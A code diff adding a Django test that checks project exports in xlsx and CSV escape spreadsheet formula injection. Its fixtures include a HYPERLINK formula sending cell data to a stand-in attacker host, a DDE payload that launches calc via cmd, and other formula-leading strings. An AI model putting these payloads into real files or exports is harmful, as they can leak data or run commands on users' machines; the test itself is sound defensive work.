@@ -275,3 +275,43 @@ def test_admin_pages_for_projects_render(facilitator_client, project):
         assert facilitator_client.get(url).status_code == 200, model
     page = facilitator_client.get(reverse("admin:projects_project_change", args=[project.pk]))
     assert "rollouts-TOTAL_FORMS" in page.content.decode()
+
+
+def test_export_neutralises_text_a_spreadsheet_would_run_as_a_formula(agent_client, agent):
+    # Text people typed, in every kind of text column: title, names, departments, types.
+    agent.user.first_name, agent.user.last_name = "@SUM(1+1)", "Skovgaard"
+    agent.user.save()
+    agent.department.name = "-2+3"
+    agent.department.save()
+    served = factories.DepartmentFactory(name="\tcmd|' /C calc'!A0")
+    kind = factories.ProjectTypeFactory(name="+cmd")
+    factories.ProjectFactory(
+        title='=HYPERLINK("https://evil.example/?x="&A1;"Klik")', lead=agent,
+        departments=[served], start_date=date(2026, 1, 15), hours_saved_per_year=120,
+    ).types.add(kind)
+
+    xlsx = agent_client.get(reverse("projects:export", args=["xlsx"]))
+    text = agent_client.get(reverse("projects:export", args=["csv"]))
+
+    sheet = load_workbook(io.BytesIO(xlsx.content)).active
+    heading = [cell.value for cell in sheet[1]]
+    row = dict(zip(heading, sheet[2], strict=True))
+    assert row["Titel"].data_type == "s"
+    assert row["Titel"].value == '\'=HYPERLINK("https://evil.example/?x="&A1;"Klik")'
+    assert row["Ansvarlig agent"].value == "'@SUM(1+1) Skovgaard"
+    assert row["Ansvarlig agents afdeling"].value == "'-2+3"
+    assert row["Betjente afdelinger"].value == "'\tcmd|' /C calc'!A0"
+    assert row["Type"].value == "'+cmd"
+    assert not any(cell.data_type == "f" for cell in sheet[2])
+    # Numbers and dates stay typed.
+    assert row["Forventede sparede timer pr. år"].value == 120
+    assert row["Startdato"].is_date
+
+    lines = list(csv.reader(io.StringIO(text.content.decode("utf-8-sig")), delimiter=";"))
+    line = dict(zip(lines[0], lines[1], strict=True))
+    assert line["Titel"] == '\'=HYPERLINK("https://evil.example/?x="&A1;"Klik")'
+    assert line["Ansvarlig agent"] == "'@SUM(1+1) Skovgaard"
+    assert line["Ansvarlig agents afdeling"] == "'-2+3"
+    assert line["Type"] == "'+cmd"
+    assert line["Startdato"] == "15.01.2026"
+    assert line["Forventede sparede timer pr. år"] == "120"
